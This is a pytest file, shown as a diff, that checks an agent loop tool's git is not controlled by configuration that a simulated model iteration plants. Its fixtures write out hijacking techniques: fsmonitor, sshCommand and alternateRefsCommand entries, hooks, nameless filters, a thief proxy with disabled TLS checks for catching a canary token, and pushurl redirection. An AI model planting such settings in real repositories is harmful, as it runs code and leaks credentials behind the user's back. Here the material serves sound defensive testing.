@@ -1,0 +1,223 @@
+"""Settings that an iteration writes into a repository's configuration must not control the loop's own git. Tested
+with whole loops.
+"""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from typing import TYPE_CHECKING
+
+import pytest
+
+from ralph.mock_api import Fault, Step, Turn
+from tests.patience import PATIENCE_S, wait_until
+from tests.program.conftest import in_turn, loop_folder, loop_lines, processes_of
+from tests.program.loop.git_servers import GitServer, ThiefProxy, bare_git_http_is_there
+from tests.program.model_answers import bash, calls, write
+from tests.services.certificates import make_certificate
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+TOKEN = "ghs_canary0123456789abcdefghijklmnopqrst"
+HANGS = Step(Turn("Late."), Fault(stall_before_headers_s=60))
+
+OPEN = ("--sandbox", "off")
+"""Options without which a sandbox would undo what the iterations plant."""
+
+
+def planted(*lines: str) -> str:
+    """A command that writes these lines into .git/config, as a model could with the Write tool alone, and does some
+    work.
+    """
+    return f"cat >> .git/config <<'END'\n{chr(10).join(lines)}\nEND\necho work >> work"
+
+
+def _made(place: Path) -> Path:
+    place.mkdir()
+    return place
+
+
+def git(ralph, *arguments: str) -> str:
+    """Runs git beside the checkout, where the checkout's configuration does not apply."""
+    ran = subprocess.run(
+        ["git", *arguments],
+        cwd=ralph.cwd.parent,
+        env=ralph.environment,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    return ran.stdout.strip()
+
+
+def of_remote(ralph, *arguments: str) -> str:
+    return git(ralph, "--git-dir", "remote.git", *arguments)
+
+
+def test_a_remote_that_an_iteration_made_up_gets_nothing_and_runs_nothing(
+    ralph, checkout, iterations, tmp_path
+) -> None:
+    """The agent makes a repository inside the checkout whose configuration names a program, and an address that
+    leads there.
+    """
+    mark = tmp_path / "ran"
+    program = f"touch {mark}; true"
+    evil = (
+        "mkdir -p evil.git/objects/info evil.git/refs evil.git/hooks other.git/objects other.git/refs;"
+        " for each in evil.git other.git; do echo 'ref: refs/heads/main' > $each/HEAD; done;"
+        " echo $PWD/other.git/objects > evil.git/objects/info/alternates;"
+        f" printf '[core]\\n\\tbare = true\\n\\talternateRefsCommand = \"{program}\"\\n' > evil.git/config;"
+        f" printf '#!/bin/sh\\n{program}\\n' > evil.git/hooks/pre-receive; chmod +x evil.git/hooks/pre-receive;"
+        " printf 'evil.git\\nother.git\\n' >> .gitignore"
+    )
+    there = f"{ralph.cwd}/evil.git"
+    config = (
+        f'[remote "origin"]\n\turl = {there}\n\tpushurl = {there}\n[url "{there}"]\n\tinsteadOf = {tmp_path}/remote.git'
+        f"\n\tpushInsteadOf = {tmp_path}/remote.git\n[remote]\n\tpushDefault = {there}\n"
+        f'[core]\n\talternateRefsCommand = "{program}"\n\tfsmonitor = "{program}"\n\tsshCommand = "{program}"'
+    )
+    iterations([bash(f"{evil}; {planted(config)}")], [bash("echo more >> work")])
+    ran = ralph("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "2")
+    assert ran.code == 0
+    lines = loop_lines(ran)
+    assert [line for line in lines if line.startswith("pushed")] == ["pushed 1 commit"] * 2
+    assert not mark.exists()
+    [told] = [line for line in lines if "changed what git follows" in line]
+    assert told.startswith(
+        "iteration 1 changed what git follows in this repository: core.alternaterefscommand, "
+    )
+    checkout.git("config", "--unset", "core.fsmonitor")
+    assert of_remote(ralph, "rev-parse", "main") == checkout.git("rev-parse", "HEAD")
+    assert git(ralph, "--git-dir", there, "for-each-ref") == ""
+
+
+@pytest.mark.skipif(not bare_git_http_is_there(), reason="this git has no HTTP server")
+def test_a_planted_proxy_or_certificate_rule_gets_no_token(ralph, checkout, iterations, tmp_path) -> None:
+    """The token is where the action actions/checkout puts it. With a proxy and `sslVerify = false`, somebody else
+    could read it.
+    """
+    mark = tmp_path / "asked"
+    certificate = make_certificate(_made(tmp_path / "c"), names="IP:127.0.0.1")
+    other = make_certificate(_made(tmp_path / "d"), names="IP:127.0.0.1")
+    with GitServer(tmp_path, TOKEN, certificate) as server, ThiefProxy(other) as thief:
+        checkout.git("remote", "set-url", "origin", f"{server.url}/remote.git")
+        checkout.git("config", "http.sslCAInfo", str(certificate))
+        checkout.git("config", f"http.{server.url}/.extraheader", f"Authorization: Bearer {TOKEN}")
+        config = (
+            f'[http]\n\tproxy = {thief.url}\n\tsslVerify = false\n[remote "origin"]\n\tproxy = {thief.url}\n'
+            f'[http "{server.url}"]\n\tproxy = {thief.url}\n\tsslVerify = false\n'
+            f'[http "{server.url}/remote.git"]\n\tproxy = {thief.url}\n\tsslVerify = false\n'
+            f'[credential]\n\thelper = "!touch {mark}; true"\n'
+        )
+        iterations([bash(planted(config))])
+        ran = ralph("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "1")
+        assert ran.code == 0
+        assert "pushed 1 commit" in loop_lines(ran)
+        assert of_remote(ralph, "rev-parse", "main") == checkout.git("rev-parse", "HEAD")
+        assert (thief.connections, TOKEN.encode() in thief.taken) == (0, False)
+        assert not mark.exists()
+        kept = "".join(path.read_text() for path in loop_folder(ralph).iterdir())
+        assert server.url in kept, "where it goes is recorded"
+        assert TOKEN not in kept + ran.stderr
+
+        # Without ralph's protection, git would have pushed there.
+        checkout.git("push", "--force", "origin", "HEAD~:main", fails=True)
+        assert TOKEN.encode() in thief.taken
+
+
+def test_a_loop_that_was_killed_pushes_where_it_did_before(ralph, checkout, iterations, tmp_path) -> None:
+    """`--continue` finds only what the iteration planted before the kill."""
+    git(ralph, "clone", "-q", "--bare", "remote.git", "thief.git")
+    config = f'[remote "origin"]\n\tpushurl = {tmp_path}/thief.git\n'
+    server = iterations([bash(planted(config)), in_turn(HANGS, bash("echo more >> work"))])
+    process = ralph.start("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "1")
+    assert server.wait_for_requests(2, PATIENCE_S)
+    process.kill()
+    process.communicate()
+    wait_until(lambda: not processes_of(ralph))
+    before = git(ralph, "--git-dir", f"{tmp_path}/thief.git", "rev-parse", "main")
+    ran = ralph("loop", "--continue")
+    assert ran.code == 0, ran.stderr
+    [notice] = [line for line in loop_lines(ran) if "than when the loop began" in line]
+    assert "(remote.origin.pushurl): pushes keep to what it was" in notice
+    assert of_remote(ralph, "rev-parse", "main") == checkout.git("rev-parse", "HEAD") != before
+    assert git(ralph, "--git-dir", f"{tmp_path}/thief.git", "rev-parse", "main") == before
+
+
+def test_what_held_a_credential_and_was_changed_before_a_resume_is_told_and_nothing_is_sent(
+    ralph, checkout, iterations, tmp_path
+) -> None:
+    """The value of the setting is recorded nowhere, so it cannot be restored."""
+    checkout.git("config", "remote.origin.url", f"file://{tmp_path}/remote.git")
+    checkout.git("config", f"url.file://{tmp_path}/.insteadOf", f"https://{TOKEN}@h/")
+    checkout.git("config", "remote.origin.url", f"https://{TOKEN}@h/remote.git")
+    iterations([write("work", "work\n")])
+    ran = ralph("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "1")
+    assert ran.code == 0, ran.stderr
+    checkout.git("config", "remote.origin.url", f"{tmp_path}/elsewhere.git")
+    again = ralph("loop", "--continue", "--max-iterations", "2")
+    assert again.code == 78
+    assert (
+        "what held a credential then is not known any more: put it back, or begin a new loop" in again.stderr
+    )
+    assert "there is no remote to push to" in loop_lines(again)[-1]
+    assert TOKEN not in again.stderr + ran.stderr
+    assert TOKEN not in "".join(path.read_text() for path in loop_folder(ralph).iterdir())
+
+
+def test_a_filter_without_a_name_and_a_remote_in_disguise_run_nothing(
+    ralph, checkout, iterations, tmp_path
+) -> None:
+    """An archive may contain `.git` with a filter without a name, and beside it a remote that would check out
+    files. Here `evil/.git` is no git directory, so that git would use `evil` itself.
+    """
+    mark = tmp_path / "ran"
+    evil = ralph.cwd / "evil"
+    git(ralph, "clone", "-q", "--bare", "remote.git", str(evil))
+    git(ralph, "--git-dir", str(evil), "config", "core.bare", "false")
+    git(ralph, "--git-dir", str(evil), "--work-tree", str(evil), "checkout", "-q", "-f", "main")
+    with (evil / "config").open("a") as file:
+        file.write(
+            f'[receive]\n\tdenyCurrentBranch = updateInstead\n[filter "x"]\n\tsmudge = "touch {mark}; cat"\n'
+        )
+    _made(evil / ".git").joinpath("HEAD").write_text("ref: refs/heads/main\n")
+    with (ralph.cwd / ".git" / "config").open("a") as file:
+        file.write(f'[filter ""]\n\tclean = "touch {mark}; cat"\n')
+    with (ralph.cwd / ".git" / "info" / "exclude").open("a") as file:
+        file.write("evil\n")
+    checkout.git("remote", "set-url", "origin", "./evil")
+    ralph.environment["ANTHROPIC_BASE_URL"] = "http://127.0.0.1:1"
+    ran = ralph("loop", "go", "--commit", "--push", "--tools", "Write", "--max-iterations", "1")
+    assert (ran.code, mark.exists()) == (78, False)
+    assert "a push to ./evil would update the files there" in ran.stderr
+
+    iterations(
+        [
+            calls(
+                ("Write", {"file_path": ".gitattributes", "content": "*.txt filter=x\n*.bin filter=\n"}),
+                ("Write", {"file_path": "a.bin", "content": "x"}),
+            )
+        ]
+    )
+    ran = ralph("loop", "go", "--commit", "--tools", "Write", "--max-iterations", "1")
+    assert (ran.code, mark.exists()) == (74, False)
+    assert "a.bin goes through the filter ''" in ran.stderr
+    checkout.git("add", "a.bin")
+    assert mark.exists(), "and git itself runs it"
+
+
+def test_the_hooks_that_an_iteration_leaves_are_named(ralph, checkout, iterations) -> None:
+    """The hooks would run at the user's next git command. The loop's own git runs none."""
+    shutil.rmtree(checkout.top / ".git" / "hooks", ignore_errors=True)
+    hook = "mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch ../ran\\n' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit"
+    iterations([bash(f"{hook}; git switch -q -c topic; echo 1 > work")], [bash("echo 2 > work")])
+    ran = ralph("loop", "go", *OPEN, "--commit", "--max-iterations", "2")
+    assert ran.code == 0
+    [told] = [line for line in loop_lines(ran) if "changed what git follows" in line]
+    assert told.startswith(
+        "iteration 1 changed what git follows in this repository: hooks/post-commit; ralph's own"
+    )
+    assert told.endswith("look at .git/config and .git/hooks first")
+    assert not (ralph.cwd.parent / "ran").exists()
